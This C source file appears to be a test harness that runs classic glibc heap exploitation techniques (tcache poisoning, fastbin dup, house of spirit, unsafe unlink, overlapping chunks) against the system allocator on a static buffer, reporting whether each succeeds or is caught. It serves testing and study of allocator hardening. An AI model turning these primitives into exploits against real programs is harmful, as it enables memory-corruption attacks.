/* Classic heap techniques run against the system's malloc (glibc 2.36),
 * step for step as tests/test_techniques.py runs them in Heap().
 *
 * Usage: techniques_glibc NAME. Prints "ok" when the technique achieved
 * what it aims at, "failed" when it completed without doing so; when glibc
 * catches it, glibc prints its message on stderr and aborts.
 *
 * Output goes through write(2): stdio's buffer would take a place in the heap.
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

typedef uint64_t u64;

static void say(int ok)
{
    const char *s = ok ? "ok\n" : "failed\n";
    if (write(1, s, strlen(s)) < 0)
        _exit(3);
}

static u64 protect(void *pos, void *ptr)
{
    return ((u64)(uintptr_t)pos >> 12) ^ (u64)(uintptr_t)ptr;
}

/* The "stack" of the techniques: a static buffer, 16-byte aligned. */
static u64 stack[64] __attribute__((aligned(16)));
/* The "global" pointer of unsafe unlink. */
static u64 *chunk0_ptr;

static void tcache_poisoning(int offset)
{
    u64 *a = malloc(0x20), *b = malloc(0x20), *r;
    u64 *target = &stack[4] + offset;

    free(a);
    free(b);
    b[0] = protect(&b[0], target);
    malloc(0x20);
    r = malloc(0x20);
    say(r == target);
}

static void tcache_double_free(void)
{
    u64 *a = malloc(0x20);

    free(a);
    free(a);
    say(0);
}

static void fill_tcache(size_t n)
{
    void *p[7];

    for (int i = 0; i < 7; i++)
        p[i] = malloc(n);
    for (int i = 0; i < 7; i++)
        free(p[i]);
}

static void fastbin_dup(int twice_in_a_row)
{
    u64 *a, *b, *c;

    fill_tcache(8);
    a = calloc(1, 8);
    b = calloc(1, 8);
    c = calloc(1, 8);
    (void)c;
    free(a);
    if (!twice_in_a_row)
        free(b);
    free(a);
    a = calloc(1, 8);
    b = calloc(1, 8);
    c = calloc(1, 8);
    say(a == c && a != b);
}

static void house_of_spirit(int misaligned)
{
    u64 *fake = &stack[8] + misaligned, *r;

    free(malloc(1)); /* the thread's tcache exists */
    fake[1] = 0x40;
    free(&fake[2]);
    r = malloc(0x30);
    say(r == &fake[2]);
}

static void house_of_spirit_fastbin(u64 next_size)
{
    u64 *fake = &stack[8], *r;

    fill_tcache(0x30);
    fake[1] = 0x40;
    fake[8 + 1] = next_size;
    free(&fake[2]);
    r = calloc(1, 0x30);
    say(r == &fake[2]);
}

static void unsafe_unlink(int links, u64 prev_size)
{
    u64 *chunk1_ptr, *chunk1_hdr;

    chunk0_ptr = malloc(0x420);
    chunk1_ptr = malloc(0x420);
    chunk0_ptr[1] = chunk0_ptr[-1] - 0x10;
    if (links) {
        chunk0_ptr[2] = (u64)(uintptr_t)(&chunk0_ptr - 3);
        chunk0_ptr[3] = (u64)(uintptr_t)(&chunk0_ptr - 2);
    }
    chunk1_hdr = chunk1_ptr - 2;
    chunk1_hdr[0] = prev_size;
    chunk1_hdr[1] &= ~(u64)1;
    free(chunk1_ptr);
    say((uintptr_t)chunk0_ptr == (uintptr_t)(&chunk0_ptr - 3));
}

static void overlapping_chunks(u64 evil_size)
{
    u64 *p1 = malloc(0x80 - 8), *p2 = malloc(0x500 - 8), *p3 = malloc(0x80 - 8), *p4;

    (void)p1;
    p2[-1] = evil_size;
    free(p2);
    p4 = malloc(0x580 - 8);
    say(p4 == p2 && (char *)p3 > (char *)p4 && (char *)p3 < (char *)p4 + 0x580);
}

int main(int argc, char **argv)
{
    const char *t = argc > 1 ? argv[1] : "";

    if (!strcmp(t, "tcache_poisoning"))
        tcache_poisoning(0);
    else if (!strcmp(t, "tcache_poisoning_misaligned"))
        tcache_poisoning(1);
    else if (!strcmp(t, "tcache_double_free"))
        tcache_double_free();
    else if (!strcmp(t, "fastbin_dup"))
        fastbin_dup(0);
    else if (!strcmp(t, "fastbin_double_free_top"))
        fastbin_dup(1);
    else if (!strcmp(t, "house_of_spirit"))
        house_of_spirit(0);
    else if (!strcmp(t, "house_of_spirit_misaligned"))
        house_of_spirit(1);
    else if (!strcmp(t, "house_of_spirit_fastbin"))
        house_of_spirit_fastbin(0x1234);
    else if (!strcmp(t, "house_of_spirit_fastbin_bad_next"))
        house_of_spirit_fastbin(8);
    else if (!strcmp(t, "unsafe_unlink"))
        unsafe_unlink(1, 0x420);
    else if (!strcmp(t, "unsafe_unlink_no_links"))
        unsafe_unlink(0, 0x420);
    else if (!strcmp(t, "unsafe_unlink_bad_prev_size"))
        unsafe_unlink(1, 0x410);
    else if (!strcmp(t, "overlapping_chunks"))
        overlapping_chunks(0x581);
    else if (!strcmp(t, "overlapping_chunks_bad_next"))
        overlapping_chunks(0x5a1);
    else
        return 2;
    return 0;
}
